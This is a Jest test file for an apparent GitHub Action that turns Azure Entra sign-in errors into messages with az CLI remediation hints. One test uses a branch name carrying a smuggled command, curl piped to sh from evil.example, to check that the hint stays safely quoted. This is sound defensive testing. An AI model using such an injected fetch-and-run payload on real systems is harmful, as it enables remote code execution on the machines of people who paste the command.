import { describe, expect, test } from '@jest/globals'
import { signInError } from '../../src/azure/sign-in-errors.ts'
import { DeployError, type ErrorCode, explain } from '../../src/errors.ts'
import { CLIENT_ID, TENANT_ID } from '../builders.ts'

const identity = { clientId: CLIENT_ID, tenantId: TENANT_ID }
const claims = {
  subject: 'repo:acme/infra:ref:refs/heads/main',
  issuer: 'https://token.actions.githubusercontent.com',
  audience: 'api://AzureADTokenExchange',
}
const TRACE = '0d7a2c1e-94b3-4f6a-8e55-3c2b1a0f9e00'
const CORRELATION = 'b6e1f0a2-3c4d-4e5f-9a8b-7c6d5e4f3a00'

/** The text that MSAL makes of Entra's reply. */
function fromEntra(number: string): Error {
  return new Error(
    `invalid_client: 7000000 - [2026-11-23 09:15:02Z]: AADSTS${number}: Words that change. Trace ID: ${TRACE} Correlation ID: ${CORRELATION} Timestamp: 2026-11-23 09:15:02Z`,
  )
}

const TRUST = `The application ${CLIENT_ID} does not trust this workflow: no federated credential has its`

describe('what Entra says', () => {
  test.each<[string, ErrorCode, string]>([
    ['700213', 'subject-not-trusted', `${TRUST} subject.`],
    ['7002138', 'subject-not-trusted', `${TRUST} subject (it differs in upper and lower case only).`],
    ['70021', 'subject-not-trusted', `${TRUST} subject, issuer and audience.`],
    ['70025', 'subject-not-trusted', `${TRUST} subject, nor anything else.`],
    ['700211', 'issuer-not-trusted', `${TRUST} issuer.`],
    ['700212', 'audience-not-trusted', `${TRUST} audience.`],
  ])('as AADSTS%s is %s, with the credential to create', (number, code, message) => {
    const error = signInError(fromEntra(number), identity, claims)
    expect(error.code).toBe(code)
    expect(error.message).toBe(message)
    expect(error.hint.split('\n')).toEqual([
      'Entra compares issuer, subject and audience letter by letter. Create a credential with exactly these (it takes a few minutes to work):',
      `  az ad app federated-credential create --id ${CLIENT_ID} --parameters '{"name":"repo-acme-infra-ref-refs-heads-main","issuer":"https://token.actions.githubusercontent.com","subject":"repo:acme/infra:ref:refs/heads/main","audiences":["api://AzureADTokenExchange"]}'`,
      'For a user-assigned managed identity, the same with:  az identity federated-credential create --name … --identity-name … --resource-group … --issuer … --subject … --audiences …',
      'The subject depends on what started the run: branch, tag, pull request or environment each need a credential of their own.',
    ])
  })

  test.each<[string, ErrorCode, string, string]>([
    [
      '700024',
      'assertion-expired',
      "Entra says that GitHub's token for this run is not valid at this moment.",
      "GitHub's token lives for five minutes and was fetched just now, so the runner's clock is probably wrong. Correct the clock and run again.",
    ],
    [
      '700016',
      'client-not-found',
      `There is no application with the client id ${CLIENT_ID} in the tenant ${TENANT_ID}.`,
      '`client-id` has to be the application (client) id of the app registration or managed identity, not its object id; and `tenant-id` the tenant it lives in.\n  az ad app list --display-name <name> --query "[].{name:displayName, clientId:appId}"',
    ],
    ...['90002', '900023'].map((number): [string, ErrorCode, string, string] => [
      number,
      'tenant-not-found',
      `There is no tenant ${TENANT_ID} in this cloud.`,
      'Check `tenant-id`, and `cloud` if the tenant is in Azure Government or Azure China. The tenant of a subscription:\n  az account show --subscription <subscription-id> --query tenantId --output tsv',
    ]),
    [
      '50034',
      'sign-in-failed',
      'Signing in to Entra failed for a reason that this action does not know (AADSTS50034).',
      'Microsoft explains the number at https://login.microsoftonline.com/error?code=50034',
    ],
  ])('as AADSTS%s is %s', (number, code, message, hint) => {
    expect(signInError(fromEntra(number), identity, claims)).toMatchObject({ code, message, hint })
  })

  test('is told with the claims that were sent and the ids that support asks for', () => {
    const cause = fromEntra('700213')
    const error = signInError(cause, identity, claims)
    expect(error.facts).toEqual({
      ...claims,
      'Entra error': 'AADSTS700213',
      'trace id': TRACE,
      'correlation id': CORRELATION,
    })
    expect(error.cause).toBe(cause)
  })

  test('before a token was sent is told without claims', () => {
    const error = signInError(fromEntra('700213'), identity, undefined)
    expect(error.hint).toBe('Create a federated credential for this workflow.')
    expect(error.facts).not.toHaveProperty('subject')
  })
})

describe('what does not come from Entra', () => {
  test.each<[string, unknown, string]>([
    ['an error', new Error('getaddrinfo ENOTFOUND login.example'), 'getaddrinfo ENOTFOUND login.example'],
    ['a text', 'a text', 'a text'],
  ])('such as %s is a failed sign-in, and tells the reason', (_title, thrown, reason) => {
    const error = signInError(thrown, identity, undefined)
    expect(error.code).toBe('sign-in-failed')
    expect(error.message).toBe(`Signing in to Entra failed: ${reason}.`)
    expect(error.hint).toBe(
      'Check that the runner can reach the login host of `cloud`, then run again with step debug logging for the details.',
    )
    expect(error.facts).toEqual({})
    expect(error.cause).toBe(thrown)
  })

  test('but is understood already, stays as it is', () => {
    const known = new DeployError('id-token-unavailable', 'No token.', { hint: 'Ask for one.' })
    expect(signInError(known, identity, claims)).toBe(known)
  })

  test.each(['AbortError', 'TimeoutError'])('but from the end of the run (%s), is told as that', (name) => {
    const ended = Object.assign(new Error('The operation was aborted'), { name })
    expect(signInError(ended, identity, claims)).toMatchObject({
      code: 'timed-out',
      message: 'The time of this run was used up while it tried to sign in to Entra.',
      cause: ended,
    })
  })
})

// Git allows quotes, semicolons and dollar signs in the name of a branch, and whoever reads the hint is an admin.
test('the command stays one quoted argument, whatever the branch is called', () => {
  const subject = "repo:acme/infra:ref:refs/heads/x';curl${IFS}evil.example|sh;'"
  const { hint } = signInError(fromEntra('700213'), identity, { ...claims, subject })
  const argument = /--parameters (?<rest>.*)$/m.exec(hint)?.groups?.rest ?? ''
  expect(argument.replaceAll("'\\''", '')).toMatch(/^'[^']*'$/)
  const asTheShellReadsIt = argument.slice(1, -1).replaceAll("'\\''", "'")
  expect(JSON.parse(asTheShellReadsIt)).toMatchObject({ subject })
})

test('nothing of the reply but its number and ids is shown, as its words change and may hold more', () => {
  expect(explain(signInError(fromEntra('700213'), identity, claims))).not.toContain('Words that change')
})
